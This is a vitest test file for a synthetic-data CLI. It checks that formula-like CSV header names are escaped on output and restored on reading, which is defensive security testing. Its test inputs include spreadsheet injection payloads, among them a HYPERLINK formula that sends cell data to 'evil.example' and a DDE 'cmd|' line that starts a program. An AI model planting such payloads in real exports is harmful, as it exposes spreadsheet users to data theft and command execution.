/**
 * Formula injection through header names (issue 22, item 4), through the real binary: a file whose column names a
 * spreadsheet would run (=HYPERLINK, +cmd|, @SUM, -2+3) gives a synthetic CSV whose header cells are escaped like
 * text cells; the CLI reads that output back under the original names (evaluate), and a model file, which carries
 * the names, writes them escaped too.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/io/index.js';
import { repoRoot } from '../support/data.js';

const bin = resolve(repoRoot, 'bin/localsynth.mjs');
const dir = mkdtempSync(join(tmpdir(), 'ls-cli-formula-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function cli(...args: string[]) {
  const r = spawnSync(process.execPath, [bin, ...args], {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, LOCALSYNTH_DEBUG: '' },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const NAMES = ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', 'plain'];
/** The header line as a spreadsheet receives it: each formula-like name behind one '. */
const ESCAPED = NAMES.map((n) => (n === 'plain' ? n : `'${n}`));

/** 60 rows: two numbers, two categories, one more number. */
function inputCsv(): string {
  const lines = [Papa.unparse([NAMES])];
  for (let i = 0; i < 60; i++)
    lines.push(
      [(i * 7) % 23, i % 3 === 0 ? 'a' : 'b', ['x', 'y', 'z'][i % 3], ((i * 13) % 17) / 4, 20 + (i % 9)].join(','),
    );
  return lines.join('\n') + '\n';
}
const input = join(dir, 'formulas.csv');
writeFileSync(input, inputCsv());
/** The header cells of a file, unrestored (as a spreadsheet would see them). */
const rawHeader = (file: string): string[] =>
  Papa.parse<string[]>(readFileSync(file, 'utf8'), { preview: 1 }).data[0] ?? [];

describe('formula-like header names', () => {
  it('generate writes them escaped; our reader gives back the original names', () => {
    const out = join(dir, 'out.csv');
    const r = cli('generate', input, '--generator', 'knnmtd', '--rows', '30', '--seed', '1', '--out', out, '--quiet');
    expect(r.code, r.stderr).toBe(0);
    expect(rawHeader(out)).toEqual(ESCAPED);
    for (const h of rawHeader(out)) expect(h).not.toMatch(/^[=+\-@\t\r]/);
    expect(parseCsv(readFileSync(out, 'utf8')).header).toEqual(NAMES);
  });

  it('evaluate reads the escaped output back under the real names (the columns match)', () => {
    const out = join(dir, 'eval.csv');
    expect(
      cli('generate', input, '--generator', 'knnmtd', '--rows', '60', '--seed', '2', '--out', out, '--quiet').code,
    ).toBe(0);
    const r = cli('evaluate', '--real', input, '--synth', out);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/Quality score/);
  });

  it('a model file carries the names, and sampling from it writes them escaped', () => {
    const model = join(dir, 'f.model.json');
    const tiny = [
      '--epochs',
      '1',
      '--steps-per-epoch',
      '3',
      '--hidden',
      '8',
      '--latent',
      '4',
      '--pseudo-per-row',
      '2',
      '--k',
      '3',
      '--backend',
      'cpu',
    ];
    const t = cli(
      'generate',
      input,
      '--generator',
      'gmtd',
      ...tiny,
      '--out',
      join(dir, 't.csv'),
      '--save-model',
      model,
      '--quiet',
    );
    expect(t.code, t.stderr).toBe(0);
    expect((JSON.parse(readFileSync(model, 'utf8')) as { dataset: { header: string[] } }).dataset.header).toEqual(
      NAMES,
    );
    const out = join(dir, 'sampled.csv');
    const s = cli('generate', '--load-model', model, '--rows', '10', '--out', out, '--quiet');
    expect(s.code, s.stderr).toBe(0);
    expect(rawHeader(out)).toEqual(ESCAPED);
    expect(parseCsv(readFileSync(out, 'utf8')).header).toEqual(NAMES);
  });
});
